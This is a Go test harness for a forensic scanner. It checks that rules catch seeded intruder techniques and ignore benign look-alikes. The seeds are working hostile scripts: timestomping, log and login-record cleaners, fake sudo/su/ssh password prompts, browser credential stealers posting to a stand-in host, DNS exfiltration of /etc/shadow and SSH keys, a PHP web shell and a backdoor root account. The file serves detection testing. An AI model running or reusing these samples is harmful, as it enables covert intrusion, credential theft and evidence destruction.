package shell

import (
	"fmt"
	"path"
	"sort"
	"strings"
	"testing"

	"github.com/strata-forensics/strata/audit"
)

// The stealth harness: what an intruder does to stay unseen and to take passwords, in our own
// seeds, each placed the ways such code is kept (a script, a function called later, Python or
// Perl fed to its interpreter by a script, a file of its language). Timestomping, log cleaners
// written in Python and Perl, fake password prompts kept where a user runs them, browser
// credential stealers and DNS exfiltration. Every variant must be found by its rule at its
// severity; the clean shapes (reproducible builds, log readers, a browser's own files,
// backups, ordinary name lookups) must raise none of these rules.
//
// go test ./audit/shell -run TestStealthHarness -v prints one line per technique:
//
//	harness: stealth-<technique> <found>/<total> recall=<0.000>

type stealthSeed struct {
	tech string
	rule string
	sev  audit.Severity
	path string // where the file is kept ("" for /tmp/.i/run.sh)
	text string
}

// A line that makes a script an intruder's (a second root account): beside it, clean-up
// and timestomping are high.
const intruderLine = "echo 'sysd:x:0:0::/root:/bin/bash' >> /etc/passwd\n"

var stealthSeeds = []stealthSeed{
	// Timestomping: a file the script drops into a system path, its times borrowed or set.
	{"timestomp", RuleTimestomp, audit.High, "", "cp ./x /usr/bin/dbus-helper\ntouch -r /bin/ls /usr/bin/dbus-helper"},
	{"timestomp", RuleTimestomp, audit.High, "", "curl -so /usr/sbin/updatectl http://203.0.113.9/u\nchmod +x /usr/sbin/updatectl\ntouch -d \"2019-03-14 09:12\" /usr/sbin/updatectl"},
	{"timestomp", RuleTimestomp, audit.High, "", "L=/lib/x86_64-linux-gnu\nmv /tmp/.k $L/libaudit.so.3\ntouch --reference=$L/libc.so.6 $L/libaudit.so.3"},
	{"timestomp", RuleTimestomp, audit.High, "", "T=/etc/cron.d/sysstat2\necho '* * * * * root /var/tmp/.x' > $T\ntouch -t 202001010000 $T"},
	{"timestomp", RuleTimestomp, audit.High, "", "stomp() { touch -r \"$1\" \"$2\"; }\nwget -qO /usr/bin/gpgsm-agent http://203.0.113.9/a\nstomp /usr/bin/gpg /usr/bin/gpgsm-agent"},
	{"timestomp", RuleTimestomp, audit.High, "", "install -m 755 ./b /usr/local/sbin/netcfg\ntouch -a -m -d \"$(stat -c %y /bin/bash)\" /usr/local/sbin/netcfg"},
	{"timestomp", RuleTimestomp, audit.High, "", "cat > /var/www/html/wp-includes/class-wp-cache.php <<'EOF'\n<?php @eval($_POST['c']); ?>\nEOF\ntouch -r /var/www/html/wp-includes/version.php /var/www/html/wp-includes/class-wp-cache.php"},
	{"timestomp", RuleTimestomp, audit.High, "", "gcc -o /usr/sbin/kthelper k.c\ntouch --date=\"$(date -r /usr/sbin/cron)\" /usr/sbin/kthelper"},
	{"timestomp", RuleTimestomp, audit.High, "", "cp /tmp/.p.so /lib/security/pam_sys.so\nfor f in /lib/security/pam_sys.so; do touch -hr /lib/security/pam_unix.so \"$f\"; done"},
	{"timestomp", RuleTimestomp, audit.High, "", intruderLine + "touch -r /etc/group /etc/passwd"},
	{"timestomp", RuleTimestomp, audit.High, "", "NOW=$(date)\ndate -s '2019-03-14 09:12:00'\ncp ./x /usr/sbin/irqbalanced\ndate -s \"$NOW\""},
	{"timestomp", RuleTimestomp, audit.High, "", "faketime '2018-11-02 04:10:00' install -m 755 /tmp/.b /usr/lib/x86_64-linux-gnu/libsys.so.1"},
	{"timestomp", RuleTimestomp, audit.High, "", "timedatectl set-ntp false\ntimedatectl set-time '2020-01-01 00:00'\nwget -qO /etc/cron.hourly/0sync http://203.0.113.9/c\ntimedatectl set-ntp true"},
	{"timestomp", RuleTimestomp, audit.High, "", "date 031409122019\necho '* * * * * root /var/tmp/.x' > /etc/cron.d/sysstat2"},
	{"timestomp", RuleTimestomp, audit.High, "", "debugfs -w -R 'set_inode_field /usr/bin/dbus-helper mtime 201903140912' /dev/sda1"},
	{"timestomp", RuleTimestomp, audit.High, "", "cp ./x /usr/bin/dbus-helper\npython3 - <<'EOF'\nimport os\nst = os.stat('/bin/ls')\nos.utime('/usr/bin/dbus-helper', (st.st_atime, st.st_mtime))\nEOF"},
	{"timestomp", RuleTimestomp, audit.Low, "/opt/t/stomp.py", "import os, shutil\nshutil.copy('./x', '/usr/sbin/sshd-keygen')\nref = os.stat('/usr/sbin/sshd')\nos.utime('/usr/sbin/sshd-keygen', ns=(ref.st_atime_ns, ref.st_mtime_ns))\n"},
	{"timestomp", RuleTimestomp, audit.Low, "/opt/t/stomp.py", "import shutil\nshutil.copy2('/tmp/.m', '/usr/bin/lsx')\nshutil.copystat('/usr/bin/ls', '/usr/bin/lsx')\n"},
	{"timestomp", RuleTimestomp, audit.Low, "/opt/t/stomp.rb", "require 'fileutils'\nFileUtils.cp('/tmp/.m', '/usr/sbin/cronlog')\nt = File.mtime('/usr/sbin/cron')\nFile.utime(t, t, '/usr/sbin/cronlog')\n"},
	{"timestomp", RuleTimestomp, audit.Low, "/opt/t/stomp.js", "const fs = require('fs');\nfs.copyFileSync('/tmp/.m', '/usr/local/bin/nodemgr');\nconst st = fs.statSync('/usr/bin/node');\nfs.utimesSync('/usr/local/bin/nodemgr', st.atime, st.mtime);\n"},
	{"timestomp", RuleTimestomp, audit.Low, "/opt/t/stomp.pl", "use File::Copy;\ncopy('/tmp/.m', '/usr/bin/lsx');\nmy ($at, $mt) = (stat('/bin/ls'))[8, 9];\nutime $at, $mt, '/usr/bin/lsx';\n"},

	// Log cleaners in Python and Perl: login records rewritten without the intruder's records,
	// system logs written back without the lines naming the intruder.
	{"log-cleaner", RuleLogWipe, audit.Low, "/root/.c/clean.py", pyUtmpCleaner},
	// login records unpacked by their layout and written back: an editor, high
	{"login-record-editor", RuleLogWipe, audit.High, "/usr/local/lib/python3/dist-packages/.lh/lh.py", pyUtmpCleaner},
	{"login-record-editor", RuleLogWipe, audit.High, "/root/.c/w.pl", plUtmpCleaner},
	{"login-record-editor", RuleLogWipe, audit.High, "/usr/share/misc/.rec.py", pyUtmpClass},
	{"log-cleaner", RuleLogWipe, audit.Low, "/root/.c/clean.py", "ip = '203.0.113.9'\nfor log in ['/var/log/auth.log', '/var/log/syslog']:\n    with open(log) as f:\n        keep = [l for l in f if ip not in l]\n    with open(log, 'w') as f:\n        f.writelines(keep)\n"},
	{"log-cleaner", RuleLogWipe, audit.Low, "/root/.c/clean.py", "import os, tempfile\nsrc = '/var/log/secure'\nfd, tmp = tempfile.mkstemp()\nwith open(src) as i, os.fdopen(fd, 'w') as o:\n    for line in i:\n        if 'sysd' not in line:\n            o.write(line)\nos.rename(tmp, src)\n"},
	{"log-cleaner", RuleLogWipe, audit.Low, "/root/.c/clean.py", "import pwd\nuid = pwd.getpwnam('sysd').pw_uid\nwith open('/var/log/lastlog', 'r+b') as f:\n    f.seek(uid * 292)\n    f.write(b'\\0' * 292)\n"},
	{"log-cleaner", RuleLogWipe, audit.Low, "/root/.c/clean.py", "import shutil\nlines = open('/var/log/messages').read().splitlines(True)\nopen('/tmp/.m', 'w').writelines(x for x in lines if '203.0.113.9' not in x)\nshutil.move('/tmp/.m', '/var/log/messages')\n"},
	{"log-cleaner", RuleLogWipe, audit.Low, "/root/.c/clean.pl", plUtmpCleaner},
	{"log-cleaner", RuleLogWipe, audit.Low, "/root/.c/clean.pl", "my $f = '/var/log/auth.log';\nopen(F, $f) or die;\nmy @l = grep { !/203\\.0\\.113\\.9/ } <F>;\nclose F;\nopen(F, \">$f\");\nprint F @l;\nclose F;\n"},
	{"log-cleaner", RuleLogWipe, audit.Low, "/root/.c/clean.pl", "for my $log (qw(/var/log/wtmp /var/log/btmp)) {\n  open(my $in, '+<', $log) or next;\n  binmode $in;\n  local $/;\n  my $d = <$in>;\n  my @r = grep { index($_, 'sysd') < 0 } unpack('(a384)*', $d);\n  seek($in, 0, 0); truncate($in, 0);\n  print $in join('', @r);\n}\n"},
	{"log-cleaner", RuleLogWipe, audit.Low, "/root/.c/clean.rb", "log = '/var/log/auth.log'\nkeep = File.readlines(log).reject { |l| l.include?('203.0.113.9') }\nFile.write(log, keep.join)\n"},
	{"log-cleaner", RuleLogWipe, audit.Low, "/root/.c/clean.js", "const fs = require('fs');\nconst ip = process.argv[2];\nconst p = '/var/log/auth.log';\nfs.writeFileSync(p, fs.readFileSync(p, 'utf8').split('\\n').filter(l => !l.includes(ip)).join('\\n'));\n"},
	{"log-cleaner", RuleLogWipe, audit.High, "", intruderLine + "python3 - <<'EOF'\n" + pyUtmpCleaner + "EOF"},
	{"log-cleaner", RuleLogWipe, audit.High, "", intruderLine + "perl <<'EOF'\n" + plUtmpCleaner + "EOF"},

	// Fake password prompts kept where a user runs them: a hidden file in a temporary or cache
	// directory, or a program's name in a directory PATH puts first.
	{"fake-prompt", RuleFakePrompt, audit.High, "/tmp/.x/su", "#!/bin/sh\nprintf 'Password: '\nread -s p\necho\necho \"$p\" >> /tmp/.x/.k\nexit 1\n"},
	{"fake-prompt", RuleFakePrompt, audit.High, "/var/tmp/.s/su", "#!/bin/bash\nread -s -p 'Password: ' p\necho\necho \"$(date) $p\" >> /var/tmp/.s/.l\nsleep 2\necho 'su: Authentication failure'\nexit 1\n"},
	{"fake-prompt", RuleFakePrompt, audit.High, "/usr/local/bin/sudo", "#!/bin/sh\nprintf '[sudo] password for %s: ' \"$(id -un)\"\nstty -echo\nread pw\nstty echo\necho\nprintf '%s\\n' \"$pw\" | nc 203.0.113.9 4444\necho 'Sorry, try again.'\n"},
	{"fake-prompt", RuleFakePrompt, audit.High, "/home/dev/.local/bin/ssh", "#!/bin/bash\nread -rs -p \"$1's password: \" p\necho\ncurl -s -d \"h=$1&p=$p\" http://203.0.113.9/s >/dev/null\n/usr/bin/ssh \"$@\"\n"},
	{"fake-prompt", RuleFakePrompt, audit.High, "/dev/shm/.sudo", "#!/bin/bash\necho -n \"[sudo] password for $USER: \"\nread -s x\necho \"$USER:$x\" >> /dev/shm/.x\necho\necho \"sudo: 3 incorrect password attempts\"\n"},
	{"fake-prompt", RuleFakePrompt, audit.High, "/home/dev/bin/su", "#!/bin/bash\nask() { read -s -p 'Password: ' \"$1\"; echo; }\nask pass\nprintf '%s\\n' \"$pass\" > ~/.cache/.pw\nexec /bin/su \"$@\"\n"},
	{"fake-prompt", RuleFakePrompt, audit.High, "/root/.cache/.u", "#!/bin/sh\nstty -echo\nprintf 'Password: '\nread P\nstty echo\necho \"$P\" | mail -s pw drop@example.org\necho 'su: Authentication failure'\n"},
	{"fake-prompt", RuleFakePrompt, audit.High, "/tmp/.ssh-x/ssh", "#!/usr/bin/env python3\nimport getpass, sys, os\np = getpass.getpass(sys.argv[1] + \"'s password: \")\nwith open('/tmp/.ssh-x/.k', 'a') as f:\n    f.write(sys.argv[1] + ' ' + p + '\\n')\nos.execv('/usr/bin/ssh', ['ssh'] + sys.argv[1:])\n"},
	{"fake-prompt", RuleFakePrompt, audit.High, "/usr/local/bin/sudo", "#!/usr/bin/python3\nimport getpass, os, subprocess, urllib.request\npw = getpass.getpass('[sudo] password for %s: ' % getpass.getuser())\nurllib.request.urlopen('http://203.0.113.9/p', data=pw.encode())\nsubprocess.run(['/usr/bin/sudo', '-S'] + os.sys.argv[1:], input=pw + '\\n', text=True)\n"},
	{"fake-prompt", RuleFakePrompt, audit.High, "/var/tmp/.passwd", "#!/usr/bin/perl\nprint 'Current password: ';\nsystem('stty', '-echo');\nmy $p = <STDIN>;\nsystem('stty', 'echo');\nopen(my $o, '>>', '/var/tmp/.pl');\nprint $o $p;\nprint \"\\npasswd: Authentication token manipulation error\\n\";\n"},
	{"fake-prompt", RuleFakePrompt, audit.High, "", "cat > /usr/local/bin/sudo <<'EOF'\n#!/bin/bash\nread -s -p \"[sudo] password for $USER: \" p\necho \"$p\" >> /tmp/.s\necho; echo 'Sorry, try again.'\nEOF\nchmod +x /usr/local/bin/sudo"},

	// Python prompts with the prompt in a variable, getpass() asking by itself, input() after
	// stty -echo, the password appended by a shell command, the real program renamed
	{"fake-prompt", RuleFakePrompt, audit.High, "/home/dev/.local/bin/sudo", "#!/usr/bin/env python\nimport os, sys, getpass\nuser = getpass.getuser()\nprompt = '[sudo] password for {0}: '.format(user)\nlog = '/tmp/.s/d.txt'\ndef grab():\n    pw = getpass.getpass(prompt)\n    f = open(log, 'a')\n    f.write('{0}:{1}\\n'.format(user, pw))\n    f.close()\n    return pw\nos.system('echo {0} | sudo -S {1}'.format(grab(), ' '.join(sys.argv[1:])))\n"},
	{"fake-prompt", RuleFakePrompt, audit.High, "/usr/bin/sudoB", "import os, getpass, subprocess, sys\nuser = getpass.getuser()\nos.system('stty -echo')\npassword = input('[sudo] password for ' + user + ': ')\nos.system(\"echo \\\"\" + user + \":\" + password + \"\\\" >> /lib/.syslogbLog\")\nos.system('stty echo')\nsubprocess.Popen(['sudoA', '-S'] + sys.argv[1:], stdin=subprocess.PIPE).communicate(password + '\\n')\n"},
	{"fake-prompt", RuleFakePrompt, audit.High, "/root/.cache/.p/su", "#!/usr/bin/python3\nimport getpass, subprocess, sys\np = getpass.getpass()\nwith open('/root/.cache/.p/.k', 'a') as f:\n    f.write(p + '\\n')\nsubprocess.run(['/bin/su.orig'] + sys.argv[1:])\n"},
	// Browser credential stores copied or decrypted and sent.
	{"browser-creds", RuleCredNear, audit.High, "/tmp/.b/b.py", pyChromeStealer},
	{"browser-creds", RuleCredNear, audit.High, "/tmp/.b/f.py", "import glob, os, zipfile, requests\nz = zipfile.ZipFile('/tmp/.f.zip', 'w')\nfor p in glob.glob(os.path.expanduser('~/.mozilla/firefox/*.default*/')):\n    for n in ('logins.json', 'key4.db', 'cookies.sqlite'):\n        if os.path.exists(p + n):\n            z.write(p + n)\nz.close()\nrequests.post('https://203.0.113.9/up', files={'f': open('/tmp/.f.zip', 'rb')})\n"},
	{"browser-creds", RuleCredNear, audit.High, "/tmp/.b/c.js", "const fs = require('fs'), os = require('os'), path = require('path');\nconst p = path.join(os.homedir(), '.config', 'chromium', 'Default', 'Cookies');\nconst body = fs.readFileSync(p).toString('base64');\nfetch('https://203.0.113.9/c', { method: 'POST', body });\n"},
	{"browser-creds", RuleCredNear, audit.High, "/tmp/.b/e.py", "import os, shutil, sqlite3, requests\nbase = os.path.expanduser('~/.config/microsoft-edge/Default')\nshutil.copyfile(os.path.join(base, 'Login Data'), '/tmp/.e')\nrows = sqlite3.connect('/tmp/.e').execute('SELECT origin_url, username_value, password_value FROM logins').fetchall()\nrequests.post('https://api.telegram.org/bot123:abc/sendMessage', data={'chat_id': 1, 'text': repr(rows)})\n"},
	{"browser-creds", RuleCredNear, audit.High, "/tmp/.b/v.py", "import json, os, base64, socket\nls = json.load(open(os.path.expanduser('~/.config/BraveSoftware/Brave-Browser/Local State')))\nkey = base64.b64decode(ls['os_crypt']['encrypted_key'])\ns = socket.socket()\ns.connect(('203.0.113.9', 443))\ns.sendall(key)\n"},
	{"browser-creds", RuleCredNear, audit.High, "/tmp/.b/n.js", "const fs = require('fs'), https = require('https');\nconst home = process.env.HOME;\nconst st = JSON.parse(fs.readFileSync(home + '/.config/google-chrome/Local State', 'utf8'));\nconst k = st.os_crypt.encrypted_key;\nconst ld = fs.readFileSync(home + '/.config/google-chrome/Default/Login Data');\nconst r = https.request({ host: '203.0.113.9', path: '/k', method: 'POST' });\nr.write(k + ld.toString('base64'));\nr.end();\n"},
	{"browser-creds", RuleCredSend, audit.High, "", "tar czf /tmp/.b.tgz ~/.mozilla/firefox/*/logins.json ~/.mozilla/firefox/*/key4.db 2>/dev/null\ncurl -s -F f=@/tmp/.b.tgz http://203.0.113.9/u"},
	{"browser-creds", RuleCredSend, audit.High, "", "cp \"$HOME/.config/google-chrome/Default/Login Data\" /tmp/.ld\nsqlite3 /tmp/.ld 'select origin_url,username_value,hex(password_value) from logins' | curl -s --data-binary @- http://203.0.113.9/l"},
	{"browser-creds", RuleCredSend, audit.High, "", "for p in ~/.config/chromium/*/Cookies ~/.config/google-chrome/*/Cookies; do\n  base64 -w0 \"$p\" | nc 203.0.113.9 9009\ndone"},
	{"browser-creds", RuleCredNear, audit.High, "", "python3 - <<'EOF'\n" + pyChromeStealer + "EOF"},

	// DNS exfiltration: the data in the labels of names looked up.
	{"dns-exfil", RuleCredSend, audit.Critical, "", "for c in $(base64 -w 30 /etc/shadow); do dig +short $c.x.exfil-dom.net; done"},
	{"dns-exfil", RuleCredSend, audit.Critical, "", "xxd -p ~/.ssh/id_rsa | while read l; do nslookup $l.k.exfil-dom.net; done"},
	{"dns-exfil", RuleCredSend, audit.Critical, "", "D=$(cat ~/.aws/credentials | base32 -w0 | tr -d =)\nhost ${D:0:60}.a.exfil-dom.net"},
	{"dns-exfil", RuleCredSend, audit.Critical, "", "od -An -tx1 /etc/shadow | tr -d ' \\n' | fold -w 60 | while read c; do drill $c.t.exfil-dom.net @203.0.113.53; done"},
	{"dns-exfil", RuleCredSend, audit.Critical, "", "q() { dig @203.0.113.53 \"$1.z.exfil-dom.net\" A +short >/dev/null; }\nfor p in $(gzip -c /etc/shadow | base32 -w 50 | tr -d =); do q $p; done"},
	{"dns-exfil", RuleCredSend, audit.High, "", "printenv | xxd -p -c 30 | while read h; do host -t TXT $h.e.exfil-dom.net; done"},
	{"dns-exfil", RuleCredSend, audit.Critical, "", "K=$(base32 -w0 ~/.ssh/id_ed25519)\nwhile [ -n \"$K\" ]; do\n  ping -c1 -W1 \"${K:0:50}.p.exfil-dom.net\" >/dev/null 2>&1\n  K=${K:50}\ndone"},
	{"dns-exfil", RuleCredSend, audit.High, "", "for l in $(cat ~/.bash_history | base64 -w 40 | tr '+/=' '-_.'); do getent hosts \"$l.h.exfil-dom.net\"; done"},
	{"dns-exfil", RuleCredSend, audit.Critical, "", "S=$(cat /etc/shadow | xxd -p | tr -d '\\n')\nkdig @203.0.113.53 +short \"${S:0:62}.s.exfil-dom.net\" TXT"},
	{"dns-exfil", RuleCredNear, audit.High, "/tmp/.d/d.py", pyDNSExfil},
	{"dns-exfil", RuleCredNear, audit.High, "/tmp/.d/r.py", "import dns.resolver, binascii\nraw = open('/root/.aws/credentials', 'rb').read()\nh = binascii.hexlify(raw).decode()\nfor i in range(0, len(h), 60):\n    dns.resolver.resolve(f'{h[i:i+60]}.{i}.exfil-dom.net', 'A')\n"},
	{"dns-exfil", RuleCredNear, audit.High, "/tmp/.d/n.js", "const dns = require('dns'), fs = require('fs');\nconst d = fs.readFileSync(process.env.HOME + '/.ssh/id_rsa').toString('hex');\nfor (let i = 0; i < d.length; i += 60) dns.resolve4(d.slice(i, i + 60) + '.n.exfil-dom.net', () => {});\n"},
	{"dns-exfil", RuleCredNear, audit.High, "", "python3 - <<'EOF'\n" + pyDNSExfil + "EOF"},
}

const pyUtmpCleaner = `import struct, os
FMT = 'hi32s4s32s256shhiii4i20s'
SIZE = struct.calcsize(FMT)
def scrub(path, who):
    with open(path, 'rb') as f:
        data = f.read()
    keep = b''
    for i in range(0, len(data), SIZE):
        rec = data[i:i + SIZE]
        if who not in struct.unpack(FMT, rec)[4]:
            keep += rec
    with open(path, 'wb') as f:
        f.write(keep)
for p in ('/var/log/wtmp', '/var/run/utmp', '/var/log/btmp'):
    scrub(p, b'sysd')
`

const pyUtmpClass = `import struct, argparse
class Rec(object):
    LAYOUT = b'hI32s4s32s256shhiii4s4s4s4s20s'
    def __init__(self, raw):
        (self.ut_type, self.ut_pid, self.ut_line, self.ut_id, self.ut_user, self.ut_host) = struct.unpack(self.LAYOUT, raw)[:6]
class Store(object):
    def __init__(self, fname='/var/log/wtmp'):
        self.fname = fname
    def forge(self, user, when):
        size = struct.calcsize(Rec.LAYOUT)
        with open(self.fname, 'r+b') as f:
            data = bytearray(f.read())
            for off in range(0, len(data), size):
                r = Rec(bytes(data[off:off + size]))
                if r.ut_user.rstrip(b'\0') == user:
                    struct.pack_into('i', data, off + 340, when)
            f.seek(0)
            f.write(data)
p = argparse.ArgumentParser()
p.add_argument('--user')
a = p.parse_args()
Store().forge(a.user.encode(), 1600000000)
`

const plUtmpCleaner = `my $u = 'sysd';
open(my $in, '<', '/var/log/wtmp') or die;
binmode $in;
my @keep;
while (read($in, my $rec, 384) == 384) {
  my ($type, $pid, $line, $id, $user) = unpack('s x2 i A32 A4 A32', $rec);
  push @keep, $rec unless $user eq $u;
}
close $in;
open(my $out, '>', '/var/log/wtmp') or die;
binmode $out;
print $out @keep;
close $out;
`

const pyChromeStealer = `import os, json, base64, shutil, sqlite3, requests
home = os.path.expanduser('~')
state = os.path.join(home, '.config', 'google-chrome', 'Local State')
key = base64.b64decode(json.load(open(state))['os_crypt']['encrypted_key'])
db = os.path.join(home, '.config', 'google-chrome', 'Default', 'Login Data')
shutil.copy2(db, '/tmp/.ld')
rows = sqlite3.connect('/tmp/.ld').execute('select origin_url, username_value, password_value from logins').fetchall()
requests.post('https://203.0.113.9/x', json={'k': base64.b64encode(key).decode(), 'r': [[r[0], r[1], r[2].hex()] for r in rows]})
`

const pyDNSExfil = `import base64, socket
data = open('/etc/shadow', 'rb').read()
enc = base64.b32encode(data).decode().rstrip('=')
for i in range(0, len(enc), 60):
    try:
        socket.gethostbyname(enc[i:i + 60] + '.d.exfil-dom.net')
    except OSError:
        pass
`

// Clean shapes: the same tools, the way clean software uses them.
var stealthClean = []struct{ name, path, text string }{
	{"login record reader", "/usr/local/bin/lastlogins.py", "import struct\nFMT = 'hi32s4s32s256shhiii4i20s'\nSIZE = struct.calcsize(FMT)\nwith open('/var/log/wtmp', 'rb') as f:\n    while True:\n        rec = f.read(SIZE)\n        if len(rec) < SIZE:\n            break\n        t = struct.unpack(FMT, rec)\n        print(t[4].rstrip(b'\\0').decode(), t[5].rstrip(b'\\0').decode())\n"},
	{"installer asking for a database password", "/usr/local/bin/app-setup", "import getpass, os, subprocess\npw = getpass.getpass()\nwith open('/etc/app/db.conf', 'a') as f:\n    f.write('password = ' + pw + '\\n')\nos.chmod('/etc/app/db.conf', 0o600)\nsubprocess.run(['/usr/bin/systemctl', 'restart', 'app'])\n"},
	{"client asking for its password after stty -echo", "/usr/local/bin/vault-login", "#!/usr/bin/python3\nimport os, subprocess\nos.system('stty -echo')\npw = input('Vault password: ')\nos.system('stty echo')\nsubprocess.run(['vault', 'login', '-method=userpass', 'password=' + pw])\n"},
	{"reproducible build", "/build/pkg/debian/rules.sh", "#!/bin/sh\nmake\nfind build -newer build/stamp -exec touch -d @$SOURCE_DATE_EPOCH {} +\ntouch -d \"@${SOURCE_DATE_EPOCH}\" build/out.tar"},
	{"reference between build outputs", "/build/pkg/build.sh", "#!/bin/sh\ncp configure.ac.in configure.ac\ntouch -r configure.ac configure aclocal.m4 Makefile.in\ntouch -r debian/changelog build/out.tar"},
	{"clock set by a test image", "/usr/local/bin/setup-test.sh", "#!/bin/sh\ndate -s '2030-01-01'\nrun-tests --out /tmp/results\n"},
	{"stamp file", "/usr/lib/pkg/postinst.sh", "#!/bin/sh\ntouch /var/lib/pkg/stamp\ntouch /etc/pkg/configured"},
	{"destdir build", "/build/pkg/install.sh", "#!/bin/sh\ninstall -m 755 out \"$DESTDIR/usr/bin/tool\"\ntouch -d \"2020-01-01 00:00:00\" \"$DESTDIR/usr/bin/tool\""},
	{"python build stamps", "/build/pkg/setup_times.py", "import os, time\nepoch = int(os.environ.get('SOURCE_DATE_EPOCH', time.time()))\nfor root, dirs, files in os.walk('build'):\n    for f in files:\n        os.utime(os.path.join(root, f), (epoch, epoch))\n"},
	{"last reader", "/usr/local/lib/tools/last.py", "import struct\nFMT = 'hi32s4s32s256shhiii4i20s'\nwith open('/var/log/wtmp', 'rb') as f:\n    data = f.read()\nfor i in range(0, len(data), struct.calcsize(FMT)):\n    print(struct.unpack(FMT, data[i:i + struct.calcsize(FMT)])[4])\n"},
	{"log analyser", "/usr/local/lib/tools/fail.py", "import re, collections\nc = collections.Counter()\nfor l in open('/var/log/auth.log'):\n    m = re.search(r'Failed password .* from (\\S+)', l)\n    if m:\n        c[m.group(1)] += 1\nprint(c.most_common(10))\n"},
	{"own log", "/srv/app/app.py", "import logging\nlogging.basicConfig(filename='/var/log/app/app.log')\nopen('/var/log/app/app.log', 'w').close()\n"},
	{"sudo wrapper asking nothing", "/usr/local/bin/sudo", "#!/bin/sh\nexec /usr/bin/sudo -E \"$@\"\n"},
	{"installer asking a database password", "/opt/app/install.sh", "#!/bin/bash\nread -s -p 'Database password: ' DBPW\necho\nsed -i \"s/^password=.*/password=$DBPW/\" /opt/app/app.conf\n"},
	{"getpass for an API login", "/opt/app/login.py", "import getpass, requests\npw = getpass.getpass('Password: ')\nr = requests.post('https://api.example.com/login', json={'user': 'me', 'password': pw})\nprint(r.status_code)\n"},
	{"a tool keeping a password it asked for", "/opt/app/ask.sh", "#!/bin/sh\nprintf 'Password: '\nread -s p\necho\necho \"$p\" > /opt/app/.secret\nchmod 600 /opt/app/.secret\n"},
	{"browser packaging", "/usr/lib/chromium/chromium-wrapper.sh", "#!/bin/sh\nif [ -f \"$HOME/.config/chromium/Default/Login Data\" ]; then echo 'profile present'; fi\nexec /usr/lib/chromium/chromium \"$@\"\n"},
	{"home backup", "/usr/local/bin/backup-home.sh", "#!/bin/sh\ntar czf /tmp/home.tgz /home/dev\nrsync -a /home/ backup@203.0.113.20:/srv/backup/\ncurl -s -T /tmp/home.tgz ftp://203.0.113.20/in/\n"},
	{"profile backup in python", "/usr/local/lib/tools/bk.py", "import os, shutil, requests\nsrc = os.path.expanduser('~/.mozilla')\nshutil.make_archive('/tmp/moz', 'gztar', src)\nrequests.post('https://backup.example.com/u', files={'f': open('/tmp/moz.tar.gz', 'rb')})\n"},
	{"name lookups", "/usr/local/bin/check-dns.sh", "#!/bin/sh\nfor h in $(cat /etc/hosts.check); do dig +short \"$h\"; done\nhost $(hostname -f)\nnslookup \"$SERVER\" 127.0.0.53\ncat /etc/resolv.conf"},
	{"python lookups", "/usr/local/lib/tools/res.py", "import socket, sys\nfor h in open('/etc/hosts.check'):\n    print(socket.gethostbyname(h.strip() + '.example.com'))\n"},
}

// stealthVariants are the ways a seed is kept: as it is; a script's commands also in a
// function called later and inside an if; code of another language also fed to its
// interpreter by a script in a here-document.
func stealthVariants(sd stealthSeed) []struct{ name, path, text string } {
	type variant = struct{ name, path, text string }
	p := sd.path
	if p == "" {
		p = "/tmp/.i/run.sh"
	}
	out := []variant{{"as-is", p, sd.text}}
	interp := map[string]string{".py": "python3 -", ".pl": "perl", ".js": "node"}[path.Ext(p)]
	switch {
	case strings.HasSuffix(p, ".sh"):
		out[0].text = "#!/bin/bash\n" + sd.text + "\n"
		if !strings.Contains(sd.text, "<<") {
			out = append(out, variant{"function", p, "#!/bin/bash\nmain() {\n" + sd.text + "\n}\nsleep 1\nmain \"$@\"\n"},
				variant{"if", p, "#!/bin/bash\nif [ \"$(id -u)\" = 0 ]; then\n" + sd.text + "\nfi\n"})
		}
	case interp != "":
		out = append(out, variant{"heredoc", "/var/tmp/.i/run.sh", "#!/bin/sh\n" + interp + " <<'EOF'\n" + sd.text + "EOF\n"})
	case sd.tech == "fake-prompt":
		// kept where a user runs it in place of the program
		for _, q := range []string{"/var/tmp/.s/su", "/dev/shm/.sudo", "/home/dev/.cache/.u", "/usr/local/bin/sudo", "/home/dev/.local/bin/ssh",
			"/tmp/.x/passwd"} {
			if q != p {
				out = append(out, variant{"placed", q, sd.text})
			}
		}
	}
	return out
}

func TestStealthHarness(t *testing.T) {
	watched := map[string]bool{RuleTimestomp: true, RuleLogWipe: true, RuleFakePrompt: true, RuleCredSend: true, RuleCredNear: true}
	seedRecall(t, "stealth-", stealthSeeds)
	for _, c := range stealthClean {
		for _, f := range scanFile(c.path, c.text) {
			if watched[f.Rule] && !(f.Rule == RuleLogWipe && f.Severity <= audit.Info) {
				t.Errorf("clean %s: %s %s %s [%s]", c.name, f.Rule, f.Severity, f.Title, f.Evidence)
			}
		}
	}
}

// seedRecall scans every variant of each seed, fails on a variant its rule does not find at
// its severity, and prints each technique's recall under prefix.
func seedRecall(t *testing.T, prefix string, seeds []stealthSeed) {
	t.Helper()
	total, found := map[string]int{}, map[string]int{}
	for _, sd := range seeds {
		for _, v := range stealthVariants(sd) {
			total[sd.tech]++
			fs := scanFile(v.path, v.text)
			ok := false
			for _, f := range fs {
				ok = ok || f.Rule == sd.rule && f.Severity >= sd.sev
			}
			if ok {
				found[sd.tech]++
			} else {
				t.Errorf("missed %s [%s] %s:\n%s\ngot:\n%s", sd.tech, v.name, v.path, v.text, dump(fs))
			}
		}
	}
	var names []string
	for n := range total {
		names = append(names, n)
	}
	sort.Strings(names)
	for _, n := range names {
		fmt.Printf("harness: %s%s %d/%d recall=%.3f\n", prefix, n, found[n], total[n], float64(found[n])/float64(total[n]))
	}
}
